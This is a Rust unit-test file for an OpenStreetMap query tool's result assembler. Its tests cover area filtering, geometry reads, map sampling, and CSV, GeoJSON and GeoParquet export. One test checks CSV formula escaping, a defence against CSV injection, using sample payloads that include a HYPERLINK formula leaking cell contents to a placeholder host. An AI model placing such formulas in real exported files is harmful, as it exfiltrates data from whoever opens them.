//! Unit tests of the assembler's rules.

use super::*;
use crate::query::area::Area;
use crate::scan::{AreaNodes, MatchedNode};

fn tags(name: &str) -> Vec<Tag> {
    vec![("amenity".into(), "cafe".into()), ("name".into(), name.into())]
}

fn block(nodes: &[(i64, f64, f64)], matched: &[(i64, &str)], ways: &[(i64, &[i64])]) -> BlockScan {
    let mut scan = BlockScan::default();
    let e7 = |d: f64| (d * 1e7).round() as i32;
    scan.area_nodes = AreaNodes {
        ids: nodes.iter().map(|n| n.0).collect(),
        lats_e7: nodes.iter().map(|n| e7(n.1)).collect(),
        lons_e7: nodes.iter().map(|n| e7(n.2)).collect(),
    };
    for &(id, lat, lon) in nodes {
        scan.summary.add_node(id, e7(lat), e7(lon));
    }
    for &(id, name) in matched {
        let &(_, lat, lon) = nodes.iter().find(|n| n.0 == id).unwrap();
        scan.nodes.push(MatchedNode { id, lat, lon, tags: tags(name), meta: None });
    }
    for &(id, refs) in ways {
        scan.ways.push(WayCandidate { id, tags: tags("w"), refs: refs.to_vec(), position: None, vertices: Vec::new(), meta: None });
        scan.summary.min_way_id = scan.summary.min_way_id.min(id);
        scan.summary.max_way_id = scan.summary.max_way_id.max(id);
    }
    scan
}

fn everywhere() -> AreaTest {
    Area::Everywhere.prepare().unwrap()
}

#[test]
fn ways_are_placed_whatever_the_blob_order() {
    let nodes = block(&[(1, 1.0, 2.0), (2, 3.0, 4.0)], &[], &[]);
    let ways = block(&[], &[], &[(10, &[1, 2, 99])]);
    for order in [[0, 1], [1, 0]] {
        let mut a = Assembler::new(everywhere(), 100);
        for i in order {
            let scan = if i == 0 { nodes.clone() } else { ways.clone() };
            a.add_block(i as u32 + 1, 0, 0, scan).unwrap();
        }
        a.finish();
        let m = a.get(ElementType::Way, 10).expect("placed");
        assert!((m.lat.unwrap() - 2.0).abs() < 1e-9 && (m.lon.unwrap() - 3.0).abs() < 1e-9);
        assert_eq!(a.len(), 1);
    }
}

#[test]
fn the_later_blob_wins_for_duplicate_ids_in_any_order() {
    let early = block(&[(1, 1.0, 1.0)], &[(1, "early")], &[]);
    let late = block(&[(1, 2.0, 2.0)], &[(1, "late")], &[]);
    for swap in [false, true] {
        let mut a = Assembler::new(everywhere(), 100);
        let (x, y) = if swap { ((5, late.clone()), (2, early.clone())) } else { ((2, early.clone()), (5, late.clone())) };
        a.add_block(x.0, 0, 0, x.1).unwrap();
        a.add_block(y.0, 0, 0, y.1).unwrap();
        let m = a.get(ElementType::Node, 1).unwrap();
        assert_eq!((m.lat, label_of(&m.tags).as_str()), (Some(2.0), "late"));
        assert_eq!(a.len(), 1);
        assert_eq!(a.all().len(), 1);
    }
}

/// The area filter: given once the area's nodes are all in; a way it left out that replaces
/// an earlier copy, and every way it left out once a node of the area comes after all, are
/// scanned again whole (the rescan read), so the answer is the one without it.
#[test]
fn the_area_filter_is_given_taken_back_and_its_left_out_ways_rescanned() {
    let area = || Area::Circle { lat: 0.0, lon: 0.0, radius: 1000.0 }.prepare().unwrap();
    let outside = |ids: &[i64]| BlockScan { ways_outside: ids.to_vec(), ..block(&[], &[], &[]) };
    let start = || {
        let mut a = Assembler::new(area(), 100);
        a.expect_sorted();
        a.add_block(1, 100, 10, block(&[(1, 0.0, 0.0)], &[], &[])).unwrap();
        assert_eq!(a.take_area_filter_change(), None, "not before the first blob of ways");
        a.add_block(2, 110, 10, block(&[], &[], &[(10, &[1])])).unwrap();
        let filter = a.take_area_filter_change().expect("a change").expect("a filter");
        assert!(filter.may_hold(1));
        assert_eq!(a.take_area_filter_change(), None, "given once");
        a
    };
    // A later copy of way 10, none of whose nodes is in the area, left out by the filter.
    let mut a = start();
    a.add_block(3, 120, 10, outside(&[10])).unwrap();
    assert_eq!(a.rescan_read().unwrap().iter().map(|b| b.index).collect::<Vec<_>>(), vec![3]);
    a.add_rescanned_ways(3, block(&[], &[], &[(10, &[99])]));
    a.finish();
    assert!(a.is_empty(), "the later copy replaced the matching one");
    // A node of the area after the filter was given: it is taken back, and the ways it left out are scanned again.
    let mut a = start();
    a.add_block(3, 120, 10, outside(&[11])).unwrap();
    assert!(a.rescan_read().is_none(), "nothing to scan again while the filter holds");
    a.add_block(4, 130, 10, block(&[(2, 0.0, 0.0)], &[], &[])).unwrap();
    assert_eq!(a.take_area_filter_change(), Some(None));
    assert_eq!(a.rescan_read().unwrap().iter().map(|b| b.index).collect::<Vec<_>>(), vec![3]);
    a.add_rescanned_ways(3, block(&[], &[], &[(11, &[2])]));
    a.finish();
    assert!(a.get(ElementType::Way, 11).is_some(), "way 11 matches by the node that came late");
    // No filter of a whole file's nodes: it would leave out nothing.
    let mut a = Assembler::new(everywhere(), 100);
    a.expect_sorted();
    a.add_block(1, 100, 10, block(&[(1, 0.0, 0.0)], &[], &[])).unwrap();
    a.add_block(2, 110, 10, block(&[], &[], &[(10, &[1])])).unwrap();
    assert_eq!(a.take_area_filter_change(), None);
}

#[test]
fn past_the_budget_locations_are_dropped_and_the_second_read_names_the_blobs() {
    let mut a = Assembler::new(everywhere(), 2);
    a.add_block(1, 100, 10, block(&[(1, 1.0, 1.0), (2, 1.0, 1.0)], &[], &[])).unwrap();
    a.add_block(2, 110, 10, block(&[(3, 1.0, 1.0), (4, 3.0, 3.0)], &[], &[])).unwrap();
    a.add_block(3, 120, 10, block(&[(5, 1.0, 1.0)], &[], &[])).unwrap();
    a.add_block(4, 130, 10, block(&[], &[], &[(10, &[3, 4])])).unwrap();
    assert!(a.overflowed());
    assert_eq!(a.locations_held(), 0);
    assert!(a.get(ElementType::Way, 10).is_none());
    let plan = a.second_read().unwrap();
    assert_eq!(plan.wanted, vec![3, 4]);
    assert_eq!(plan.blobs.iter().map(|b| b.index).collect::<Vec<_>>(), vec![2]);
    a.add_locations(2, &[(3, 10_000_000, 10_000_000), (4, 30_000_000, 30_000_000)]);
    a.finish();
    let m = a.get(ElementType::Way, 10).unwrap();
    assert!((m.lat.unwrap() - 2.0).abs() < 1e-9);
}

#[test]
fn csv_quotes_what_needs_quoting() {
    let m = Match { element: ElementType::Node, id: 7, lat: Some(1.5), lon: Some(2.0), tags: vec![("name".into(), "a, \"b\"\nc".into())], members: vec![], problem: None, meta: None, distance: None, change: None, cut: None };
    let keys = CsvColumns::new(vec!["amenity".to_string(), "name".to_string(), "x,y".to_string()]);
    assert_eq!(csv_header(&keys), "osm_type,osm_id,lat,lon,geometry,problem,amenity,name,\"x,y\"\r\n");
    assert_eq!(csv_row(&m, Some(&Shape::Point([15_000_000, 20_000_000])), &keys), "node,7,1.5000000,2.0000000,POINT (2 1.5),,,\"a, \"\"b\"\"\nc\",\r\n");
    // Values go to their key's column whatever the tags' order; a repeated key keeps its first value.
    let m = Match { tags: vec![("x,y".into(), "1".into()), ("amenity".into(), "cafe".into()), ("x,y".into(), "2".into())], ..m };
    assert_eq!(csv_row(&m, Some(&Shape::Point([15_000_000, 20_000_000])), &keys), "node,7,1.5000000,2.0000000,POINT (2 1.5),,cafe,,1\r\n");
    // A match with no geometry: no point, no WKT (empty cells, read as null), and the reason.
    let m = Match { element: ElementType::Relation, lat: None, lon: None, problem: Some(NO_MEMBER_IN_FILE.into()), ..m };
    assert_eq!(csv_row(&m, None, &keys), format!("relation,7,,,,{NO_MEMBER_IN_FILE},cafe,,1\r\n"));
    let f: serde_json::Value = serde_json::from_str(&feature(&m, None)).unwrap();
    assert_eq!((&f["geometry"], &f["properties"]["problem"]), (&serde_json::Value::Null, &serde_json::json!(NO_MEMBER_IN_FILE)));
}

#[test]
fn a_change_views_export_has_its_class_beside_the_own_fields_and_a_change_tag_is_kept_apart() {
    let m = Match { element: ElementType::Node, id: 7, lat: Some(1.5), lon: Some(2.0), tags: vec![("change".into(), "x".into())], members: vec![], problem: None, meta: None, distance: None, change: Some(Change::Deleted), cut: None };
    let keys = CsvColumns::new(vec!["change".to_string()]).with_change(true);
    assert_eq!(csv_header(&keys), "osm_type,osm_id,lat,lon,geometry,problem,change,tag:change\r\n");
    assert_eq!(csv_row(&m, None, &keys), "node,7,,,,,deleted,x\r\n");
    let f: serde_json::Value = serde_json::from_str(&feature(&m, None)).unwrap();
    assert_eq!((&f["properties"]["change"], &f["properties"]["tag:change"]), (&serde_json::json!("deleted"), &serde_json::json!("x")));
    // Other answers have no change column.
    assert_eq!(csv_header(&CsvColumns::new(vec![])), "osm_type,osm_id,lat,lon,geometry,problem\r\n");
}

/// Tag values are written by anyone (OWASP "CSV Injection", CWE-1236): a cell a spreadsheet
/// would run as a formula gets a `'` in front and quotes; numbers stay numbers.
#[test]
fn csv_cells_never_read_as_formulas() {
    let tags = [("a", "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"open\")"), ("b", "+SUM(1,2)"), ("c", "@SUM(1,1)"), ("d", "-1"), ("e", "-3.5"), ("f", "-x"), ("g", "\tcmd"), ("h", "\u{FF1D}1+1"), ("i", "1e-3"), ("j", "+"), ("=k", "v")];
    let m = Match { element: ElementType::Node, id: 7, lat: Some(1.5), lon: Some(2.0), tags: tags.iter().map(|&(k, v)| (k.into(), v.into())).collect(), members: vec![], problem: None, meta: None, distance: None, change: None, cut: None };
    let keys = CsvColumns::new(tags.iter().map(|&(k, _)| k.to_string()).collect());
    assert_eq!(csv_header(&keys), "osm_type,osm_id,lat,lon,geometry,problem,a,b,c,d,e,f,g,h,i,j,\"'=k\"\r\n");
    assert_eq!(
        csv_row(&m, Some(&Shape::Point([15_000_000, 20_000_000])), &keys),
        "node,7,1.5000000,2.0000000,POINT (2 1.5),,\"'=HYPERLINK(\"\"http://x.example/?leak=\"\"&A1,\"\"open\"\")\",\"'+SUM(1,2)\",\"'@SUM(1,1)\",-1,-3.5,\"'-x\",\"'\tcmd\",\"'\u{FF1D}1+1\",1e-3,\"'+\",v\r\n"
    );
}

/// A tag named like an element's own field keeps its value under `tag:` + its key, in both
/// formats; the element's own fields stay its own.
#[test]
fn tags_never_take_an_elements_own_fields() {
    let tags = [("osm_id", "1"), ("osm_type", "relation"), ("tag:osm_id", "2"), ("lat", "x"), ("name", "n"), ("tag:name", "t")];
    let m = Match { element: ElementType::Way, id: 9, lat: Some(1.5), lon: Some(2.0), tags: tags.iter().map(|&(k, v)| (k.into(), v.into())).collect(), members: vec![], problem: None, meta: None, distance: None, change: None, cut: None };
    let feature: serde_json::Value = serde_json::from_str(&feature(&m, Some(&Shape::Point([15_000_000, 20_000_000])))).unwrap();
    let p = &feature["properties"];
    assert_eq!((&p["osm_id"], &p["osm_type"]), (&serde_json::json!(9), &serde_json::json!("way")));
    assert_eq!((&p["tag:osm_id"], &p["tag:osm_type"], &p["tag:tag:osm_id"], &p["tag:lat"]), (&serde_json::json!("1"), &serde_json::json!("relation"), &serde_json::json!("2"), &serde_json::json!("x")));
    assert_eq!((&p["name"], &p["tag:name"]), (&serde_json::json!("n"), &serde_json::json!("t")));
    assert_eq!(p.as_object().unwrap().len(), 2 + tags.len());
    let keys = CsvColumns::new(tags.iter().map(|&(k, _)| k.to_string()).collect());
    assert_eq!(csv_header(&keys), "osm_type,osm_id,lat,lon,geometry,problem,tag:osm_id,tag:osm_type,tag:tag:osm_id,tag:lat,name,tag:name\r\n");
    assert_eq!(csv_row(&m, Some(&Shape::Point([15_000_000, 20_000_000])), &keys), "way,9,1.5000000,2.0000000,POINT (2 1.5),,1,relation,2,x,n,t\r\n");
}

#[test]
fn changes_are_drained_once_and_rows_are_sorted_by_label() {
    let mut a = Assembler::new(everywhere(), 100);
    a.add_block(1, 0, 0, block(&[(1, 1.0, 1.0), (2, 1.0, 1.0), (3, 1.0, 1.0)], &[(1, "b"), (2, "a"), (3, "b")], &[])).unwrap();
    let first = a.drain_changes(2);
    assert_eq!(first.len(), 1 + 2 * 4, "nothing removed, two of the three added");
    assert_eq!(first[0], 0.0);
    assert_eq!((first[1] as i64 % 4, first[2], first[3], first[4]), (ElementType::Node as i64, 0.0, 1.0, 1.0));
    assert_eq!(a.drain_changes(usize::MAX).len(), 1 + 4, "the third");
    assert_eq!(a.drain_changes(usize::MAX), vec![0.0]);
    let ids: Vec<i64> = a.rows(0, 10).iter().map(|m| m.id).collect();
    assert_eq!(ids, vec![2, 1, 3]);
    assert_eq!(a.rows(1, 1)[0].id, 1);
}

#[test]
fn a_matched_way_gets_its_full_geometry_from_the_geometry_read() {
    let area = Area::Circle { lat: 0.0, lon: 0.0, radius: 1000.0 }.prepare().unwrap();
    let mut a = Assembler::new(area, 100);
    // Node 1 lies in the area; node 2, one degree east, does not (its block holds it, the
    // first read kept only the area's locations).
    let mut nodes = block(&[(1, 0.0, 0.0)], &[], &[]);
    nodes.summary.add_node(2, 0, 10_000_000);
    a.add_block(1, 100, 10, nodes).unwrap();
    a.add_block(2, 110, 10, block(&[], &[], &[(10, &[1, 2])])).unwrap();
    a.finish();
    assert_eq!(a.shape(ElementType::Way, 10), Some(Shape::Point([0, 0])), "a point until its geometry is known");
    let plan = a.geometry_read().unwrap();
    assert_eq!((plan.wanted.clone(), plan.blobs.iter().map(|b| b.index).collect::<Vec<_>>()), (vec![2], vec![1]));
    a.add_way_locations(1, &[(2, 0, 10_000_000)]);
    a.drain_changes(usize::MAX);
    a.finish_geometry();
    assert_eq!(a.shape(ElementType::Way, 10), Some(Shape::LineString(vec![[0, 0], [0, 10_000_000]])));
    let changes = a.drain_changes(usize::MAX);
    assert_eq!(changes, vec![1.0, 41.0, 41.0, 1.0, 2.0, 0.0, 0.0, 1.0, 0.0], "removed as a point, added as a line");
    assert!(a.geometry_read().is_none(), "nothing missing any more");
}

#[test]
fn past_the_limit_the_map_draws_an_even_sample_and_takes_off_what_leaves_it() {
    let matched = |ids: std::ops::Range<i64>| {
        let mut scan = BlockScan::default();
        for id in ids {
            scan.summary.add_node(id, 0, 0);
            scan.nodes.push(MatchedNode { id, lat: 0.0, lon: 0.0, tags: tags("n"), meta: None });
        }
        scan
    };
    // Points only: `[r, r feature ids, then (feature id, kind 0, lon, lat) per point]`.
    let apply = |on_map: &mut FxHashSet<i64>, changes: Vec<f64>| {
        let r = changes[0] as usize;
        changes[1..=r].iter().for_each(|&fid| assert!(on_map.remove(&(fid as i64)), "removes what is drawn"));
        changes[1 + r..].chunks(4).for_each(|p| assert!(on_map.insert(p[0] as i64), "adds what is not"));
    };
    let (limit, mut on_map) = (MAP_MAX_FEATURES as i64, FxHashSet::default());
    let mut a = Assembler::new(everywhere(), 100);
    a.add_block(1, 0, 0, matched(1..limit)).unwrap();
    apply(&mut on_map, a.drain_changes(usize::MAX));
    assert_eq!((on_map.len(), a.map_sample()), (limit as usize - 1, 1), "up to the limit, every match");
    a.add_block(2, 10, 10, matched(limit..3 * limit)).unwrap();
    apply(&mut on_map, a.drain_changes(usize::MAX));
    assert_eq!((a.len(), a.map_sample()), (3 * limit as usize - 1, 4));
    let sample: FxHashSet<i64> = (1..3 * limit).map(|id| ElementType::Node.feature_id(id)).filter(|&fid| a.map_sample.keeps(fid)).collect();
    let (extra, missing) = (on_map.difference(&sample).count(), sample.difference(&on_map).count());
    assert_eq!((extra, missing, on_map.len()), (0, 0, sample.len()), "the sample, and only it, is on the map");
    assert!(on_map.len().abs_diff(3 * limit as usize / 4) < limit as usize / 20, "about a quarter: {}", on_map.len());
}

#[test]
fn the_answers_bounds_hold_every_matched_node_and_way_position() {
    let mut a = Assembler::new(everywhere(), 100);
    assert_eq!(a.bounds(), None);
    a.add_block(1, 100, 10, block(&[(1, 1.0, 2.0), (2, -3.0, 5.0), (3, 7.0, -1.0)], &[(1, "a")], &[(10, &[2, 3])])).unwrap();
    a.finish();
    // Node 1 at (1, 2); way 10 at the mean of its nodes, (2, 2): nodes 2 and 3 are no matches.
    assert_eq!(a.bounds(), Some([2.0, 1.0, 2.0, 2.0]));
}

#[test]
fn matches_are_classed_by_their_value_of_a_key_the_most_frequent_first() {
    let mut a = Assembler::new(everywhere(), 100);
    // Names a, a, b, c on nodes 1–4 and w on way 10 (all amenity=cafe).
    let nodes = [(1, 1.0, 1.0), (2, 1.0, 1.0), (3, 1.0, 1.0), (4, 1.0, 1.0)];
    a.add_block(1, 100, 10, block(&nodes, &[(1, "a"), (2, "a"), (3, "b"), (4, "c")], &[(10, &[1])])).unwrap();
    a.finish();
    let classes = a.style_classes("name", 2);
    assert_eq!(classes.values, vec![("a".to_string(), 2), ("b".to_string(), 1)]);
    assert_eq!((classes.other, classes.none), (2, 0));
    let mut by_id: Vec<(i64, usize)> = classes.features.chunks(2).map(|p| (p[0] as i64, p[1] as usize)).collect();
    by_id.sort();
    let fid = |t: ElementType, id| t.feature_id(id);
    let want = [(fid(ElementType::Node, 1), 0), (fid(ElementType::Node, 2), 0), (fid(ElementType::Node, 3), 1), (fid(ElementType::Node, 4), 2), (fid(ElementType::Way, 10), 2)];
    let mut want = want.to_vec();
    want.sort();
    assert_eq!(by_id, want);
    // No match has the key: all in the last class.
    let none = a.style_classes("cuisine", 2);
    assert_eq!((none.values.len(), none.other, none.none), (0, 0, 5));
    assert!(none.features.chunks(2).all(|p| p[1] == 1.0));
}

#[test]
fn the_filter_keeps_the_rows_holding_its_text_in_the_lists_order_and_finds_a_matchs_row() {
    let mut a = Assembler::new(everywhere(), 100);
    let nodes = [(1, 1.0, 1.0), (2, 1.0, 1.0), (3, 1.0, 1.0), (4, 1.0, 1.0)];
    a.add_block(1, 0, 0, block(&nodes, &[(1, "Café Roma"), (2, "Bar"), (3, "café Nero"), (4, "Deli")], &[])).unwrap();
    assert_eq!(a.row_of(ElementType::Node, 4), Some(2), "by label, bytewise: Bar, Café Roma, Deli, café Nero");
    a.set_filter("CAFÉ".to_lowercase().as_str());
    assert_eq!(a.row_count(), 2);
    let ids: Vec<i64> = a.rows(0, 10).iter().map(|m| m.id).collect();
    assert_eq!(ids, vec![1, 3]);
    assert_eq!(a.row_of(ElementType::Node, 3), Some(1));
    assert_eq!(a.row_of(ElementType::Node, 2), None, "left out by the filter");
    a.set_order(Some("id".into()), true);
    let ids: Vec<i64> = a.rows(0, 10).iter().map(|m| m.id).collect();
    assert_eq!(ids, vec![3, 1], "ordered and filtered");
    a.set_filter("cafe"); // every match's amenity=cafe
    assert_eq!(a.row_count(), 4);
    a.set_filter("");
    assert_eq!(a.row_count(), 4);
    assert_eq!(a.len(), 4);
}

#[test]
fn a_geoparquet_row_keeps_every_tag_and_its_key_columns_never_take_an_own_columns_name() {
    let tags = vec![("amenity".into(), "cafe".into()), ("bbox".into(), "1".into()), ("amenity".into(), "bar".into())];
    let m = Match { element: ElementType::Way, id: 9, lat: None, lon: None, tags, members: vec![], problem: Some(NO_NODE_IN_FILE.into()), meta: None, distance: None, change: None, cut: None };
    let keys = vec!["amenity".to_string(), "bbox".to_string(), "lat".to_string()];
    assert_eq!(parquet_columns(&keys, false, false, String::new()).keys, ["amenity", "tag:bbox", "lat"]);
    let row = parquet_row(&m, None, &keys);
    assert_eq!((row.osm_type.as_str(), row.osm_id, row.tags.len()), ("way", 9, 3));
    assert_eq!(row.keys, [Some("cafe".to_string()), Some("1".to_string()), None]);
    assert_eq!((row.geometry, row.bbox, row.problem.as_deref()), (None, None, Some(NO_NODE_IN_FILE)));
}
